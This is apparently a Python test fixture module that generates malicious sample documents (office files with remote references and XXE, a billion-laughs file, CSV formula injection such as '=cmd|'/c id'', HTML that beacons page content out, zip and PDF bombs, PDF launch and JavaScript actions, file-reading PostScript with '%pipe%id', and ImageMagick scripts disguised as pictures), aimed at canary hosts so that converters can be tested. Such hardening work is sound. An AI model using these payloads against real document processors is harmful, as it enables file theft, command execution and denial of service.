"""Documents that fetch, run or never end, and programs for printers."""
# ruff: noqa: E501 - each line of the table is one file.

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

from tests.badfiles.bad import Bad, Canary, Kind, fixed
from tests.badfiles.deflate import raw, zeros

KINDS = {
    "office-reference": Kind(65, "An office file whose pictures and templates lie elsewhere."),
    "office-xxe": Kind(65, "An office file with an entity that is a file."),
    "flat-office": Kind(65, "An office file in one piece of XML with sections and macros from outside."),
    "rich-text": Kind(65, "Rich text with fields that fetch."),
    "table-formula": Kind(65, "A table whose cells are commands."),
    "web-references": Kind(67, "A page that shows and sends files of the server and its neighbours."),
    "web-busy": Kind(66, "A page that never comes to rest."),
    "web-memory": Kind(68, "A page that takes all memory."),
    "web-tall": Kind(60, "A page taller than any picture."),
    "office-bomb": Kind(66, "An office file that inflates to more than a reader can hold."),
    "pdf-dims": Kind(60, "A page as large as a field."),
    "pdf-pages": Kind(61, "A tree of pages with more leaves than it has bytes, or with a circle."),
    "pdf-bomb": Kind(61, "Streams that inflate without end."),
    "pdf-reach": Kind(65, "Actions that fetch, send or start something."),
    "pdf-locked": Kind(71, "A document behind a password."),
    "printer-program": Kind(74, "PostScript that reads files or never ends."),
    "magick-script": Kind(74, "Scripts of an image tool under the name of a picture."),
}
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def _relations(*links: tuple[str, str]) -> str:
    listed = "".join(
        f'<Relationship Id="r{n}" Type="{RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(links)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{listed}</Relationships>'


def _office(main: str, body: str, more: Mapping[str, str] = {}) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in {"[Content_Types].xml": TYPES, main: body, **more}.items():
            archive.writestr(zipfile.ZipInfo(name), text, zipfile.ZIP_DEFLATED)
    return made.getvalue()


def _docx(body: str = "<w:p/>", before: str = "", *links: tuple[str, str]) -> bytes:
    text = f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    return _office("word/document.xml", text, {"word/_rels/document.xml.rels": _relations(*links)})


def _remote_template(canary: Canary) -> bytes:
    settings = f'<w:settings xmlns:w="{WORD}" xmlns:r="{RELATION}"><w:attachedTemplate r:id="r0"/></w:settings>'
    link = _relations(("attachedTemplate", canary.url("template.dotm")))
    more = {"word/settings.xml": settings, "word/_rels/settings.xml.rels": link}
    return _office("word/document.xml", f'<w:document xmlns:w="{WORD}"/>', more)


def _fodt(canary: Canary) -> bytes:
    return (
        '<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" office:mimetype='
        '"application/vnd.oasis.opendocument.text"><office:body><office:text><text:section text:name="a">'
        f'<text:section-source xlink:href="{canary.file()}"/></text:section><draw:image xlink:href='
        f'"{canary.url("flat.png")}"/></office:text></office:body></office:document>\n'
    ).encode()


def _page(canary: Canary) -> bytes:
    one, two = canary.file(), canary.url
    return (
        f'<!DOCTYPE html><html><head><link rel=stylesheet href="{two("style.css")}"><base href="{one}"></head><body>'
        f'<img src="{two("image.png")}"><iframe src="{one}"></iframe><object data="{one}"></object>'
        f'<script src="{two("script.js")}"></script><video src="{two("film.mp4")}"></video>'
        f'<script>fetch("{two("fetch")}");navigator.sendBeacon("{two("beacon")}",document.body.innerHTML);'
        f'new WebSocket("{two("socket").replace("http", "ws", 1)}");new EventSource("{two("events")}")</script></body></html>\n'
    ).encode()


def pdf(*objects: str | bytes, trailer: str = "") -> bytes:
    """Objects from 1 on, the first of which is the root; readers find them by looking, for there is no table."""
    made = [b"%PDF-1.7\n"]
    for number, body in enumerate(objects, 1):
        made.append(b"%d 0 obj\n%s\nendobj\n" % (number, body if isinstance(body, bytes) else body.encode()))
    return b"".join(made) + f"trailer\n<</Root 1 0 R{trailer}>>\n%%EOF\n".encode()


def _paper(page: str, *more: str | bytes, root: str = "") -> bytes:
    return pdf(
        f"<</Type/Catalog/Pages 2 0 R{root}>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R{page}>>", *more,
    )  # fmt: skip


def _exponential(depth: int, width: int = 10) -> bytes:
    nodes = [f"<</Type/Pages/Kids[{f'{n + 3} 0 R ' * width}]/Count {width ** (depth - n)}>>" for n in range(depth)]
    return pdf("<</Type/Catalog/Pages 2 0 R>>", *nodes, "<</Type/Page/MediaBox[0 0 9 9]>>")


def _stream(content: bytes, words: str) -> bytes:
    return f"<<{words}/Length {len(content)}>>\nstream\n".encode() + content + b"\nendstream"


def _bomb() -> bytes:
    words = "/Type/XObject/Subtype/Image/Width 30000/Height 30000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode"
    shown = _stream(b"600 0 0 600 0 0 cm /I Do", "")
    return _paper(
        "/MediaBox[0 0 600 600]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>",
        shown,
        _stream(zeros(900_000_000), words),
    )


def _deep_bomb() -> bytes:
    inner = raw(b"q " * 500_000, 200)
    return _paper("/MediaBox[0 0 600 600]/Contents 4 0 R", _stream(b"\x78\xda" + inner, "/Filter/FlateDecode"))


def _actions(canary: Canary) -> bytes:
    script = f"app.launchURL('{canary.url('script')}');this.submitForm('{canary.url('form')}')"
    return _paper(
        f"/MediaBox[0 0 99 99]/AA<</O<</S/Launch/F({canary.path()})>>>>/Annots[<</Subtype/Link/A<</S/URI/URI({canary.url('link')})>>>>]",
        root=f"/OpenAction<</S/JavaScript/JS({script})>>",
    )


def _locked() -> bytes:
    return pdf(
        "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R>>",
        f"<</Filter/Standard/V 2/R 3/Length 128/P -4/O<{'11' * 32}>/U<{'22' * 32}>>>",
        trailer=f"/Encrypt 4 0 R/ID[<{'33' * 16}><{'33' * 16}>]",
    )  # fmt: skip


def _postscript(canary: Canary) -> bytes:
    return (
        f"%!PS\n({canary.path()}) (r) file 99 string readstring pop show showpage\n(%pipe%id) (r) file pop\n".encode()
    )


FILES = (
    Bad("docx-external-image.docx", "office-reference", lambda c: _docx(f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata xmlns:r="{RELATION}" r:id="r0"/></v:shape></w:pict></w:r></w:p>', "", ("image", c.url("docx.png")), ("image", c.file("png")))),
    Bad("docx-remote-template.docx", "office-reference", _remote_template),
    Bad("xlsx-external.xlsx", "office-reference", lambda c: _office("xl/workbook.xml", "<workbook/>", {"xl/_rels/workbook.xml.rels": _relations(("externalLink", c.url("other.xlsx")))})),
    Bad("pptx-external.pptx", "office-reference", lambda c: _office("ppt/presentation.xml", "<p/>", {"ppt/_rels/presentation.xml.rels": _relations(("video", c.file("mp4")))})),
    Bad("docx-xxe.docx", "office-xxe", lambda c: _docx("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", f'<!DOCTYPE d [<!ENTITY x SYSTEM "{c.file()}">]>')),
    fixed("docx-laughs.docx", "office-xxe", lambda: _docx("<w:p><w:r><w:t>&i;</w:t></w:r></w:p>", "<!DOCTYPE d [" + '<!ENTITY a "lollollol">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + "]>")),
    Bad("fodt-section.fodt", "flat-office", _fodt),
    Bad("rtf-fields.rtf", "rich-text", lambda c: rb"{\rtf1{\field{\*\fldinst INCLUDEPICTURE " + f'"{c.url("field.png")}"'.encode() + rb"}}{\object\objautlink{\*\objdata 00}}{\*\template " + c.url("template.dot").encode() + b"}}"),
    Bad("csv-formula.csv", "table-formula", lambda c: f"=cmd|'/c id'!A1,=WEBSERVICE(\"{c.url('cell')}\"),+1+1,@SUM(1)\n='{c.file()}'#$a.A1,-2,=HYPERLINK(\"{c.url('link')}\")\n".encode()),
    Bad("html-references.html", "web-references", _page),
    fixed("html-busy.html", "web-busy", lambda: b"<!DOCTYPE html><html><script>for(;;){}</script></html>"),
    fixed("html-dialogs.html", "web-busy", lambda: b"<!DOCTYPE html><html><script>alert(1);confirm(2);print();onbeforeunload=()=>1</script></html>"),
    fixed("html-memory.html", "web-memory", lambda: b"<!DOCTYPE html><html><script>const a=[];for(;;)a.push(new Uint8Array(1<<26).fill(1))</script></html>"),
    fixed("html-tall.html", "web-tall", lambda: b"<!DOCTYPE html><html><body style='height:9999999px;width:9999999px'></body></html>"),
    fixed("docx-zip-bomb.docx", "office-bomb", lambda: _docx("<w:p/>" * 4_000_000)),
    fixed("pdf-mediabox.pdf", "pdf-dims", lambda: _paper("/MediaBox[0 0 2000000 2000000]")),
    fixed("pdf-userunit.pdf", "pdf-dims", lambda: _paper("/MediaBox[0 0 14400 14400]/UserUnit 100000")),
    fixed("pdf-exp-pages.pdf", "pdf-pages", lambda: _exponential(9)),
    fixed("pdf-kids-loop.pdf", "pdf-pages", lambda: pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2000000000>>")),
    fixed("pdf-deep.pdf", "pdf-pages", lambda: pdf("<</Type/Catalog/Pages 2 0 R/X " + "[" * 200_000 + "]" * 200_000 + ">>", "<</Type/Pages/Kids[]/Count 0>>")),
    fixed("pdf-image-bomb.pdf", "pdf-bomb", _bomb),
    fixed("pdf-content-bomb.pdf", "pdf-bomb", _deep_bomb),
    Bad("pdf-actions.pdf", "pdf-reach", _actions),
    fixed("pdf-encrypted.pdf", "pdf-locked", _locked),
    Bad("ps-file.ps", "printer-program", _postscript),
    Bad("eps-file.eps", "printer-program", lambda c: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n" + _postscript(c)),
    Bad("eps-file.jpg", "printer-program", lambda c: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n" + _postscript(c)),
    fixed("ps-infinite.ps", "printer-program", lambda: b"%!PS\n{} loop\n"),
    Bad("mvg-label.mvg", "magick-script", lambda c: f"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 9,9 '{c.path('png')}'\npop graphic-context\n".encode()),
    Bad("mvg-http.png", "magick-script", lambda c: f"push graphic-context\nviewbox 0 0 9 9\nfill 'url({c.url('mvg')})'\npop graphic-context\n".encode()),
    Bad("msl-read.jpg", "magick-script", lambda c: f'<?xml version="1.0"?><image><read filename="{c.path("png")}"/><write filename="{c.folder}/written.png"/></image>\n'.encode()),
)  # fmt: skip
